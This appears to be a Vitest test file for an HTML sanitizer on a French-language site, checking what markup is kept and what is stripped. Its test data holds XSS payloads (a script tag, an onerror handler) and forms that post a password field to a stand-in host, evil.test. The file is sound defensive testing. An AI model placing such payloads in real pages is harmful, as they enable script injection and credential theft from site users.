import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize';

describe('sanitizeHtml', () => {
  it('keeps authored formatting', () => {
    expect(sanitizeHtml('<p style="color: red">Un <strong>texte</strong> <a href="/aide">lié</a></p>')).toBe(
      '<p style="color: red">Un <strong>texte</strong> <a href="/aide">lié</a></p>',
    );
  });

  it.each([
    ['a script', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
    ['a handler', '<img src="x.png" onerror="alert(1)">', '<img src="x.png">'],
    ['a global style sheet, which could hide or restyle the player', '<style>body { display: none }</style><p>a</p>', '<p>a</p>'],
    [
      'a form that posts to another site',
      '<form action="https://evil.test/steal" method="post"><input name="password"><button>OK</button></form><p>a</p>',
      '<p>a</p>',
    ],
    ['a form posting to a protocol-relative address', '<form action="//evil.test/steal"><input></form>', ''],
    ['a button that would send its form elsewhere', '<form><button formaction="https://evil.test">OK</button></form>', '<form><button>OK</button></form>'],
  ])('drops %s', (_what, html, expected) => {
    expect(sanitizeHtml(html)).toBe(expected);
  });

  it('keeps a form that stays on the site', () => {
    expect(sanitizeHtml('<form action="/recherche"><input name="q"></form>')).toBe('<form action="/recherche"><input name="q"></form>');
  });

  it('keeps French punctuation with its word, the text unchanged', () => {
    const html = sanitizeHtml('<p>Que voulez-vous faire maintenant ? « Bonjour » What now?</p>');
    expect(html).toBe('<p>Que voulez-vous faire <span class="nowrap">maintenant ?</span> <span class="nowrap">« Bonjour »</span> What now?</p>');
    const container = document.createElement('div');
    container.innerHTML = html;
    expect(container.textContent).toBe('Que voulez-vous faire maintenant ? « Bonjour » What now?');
  });
});
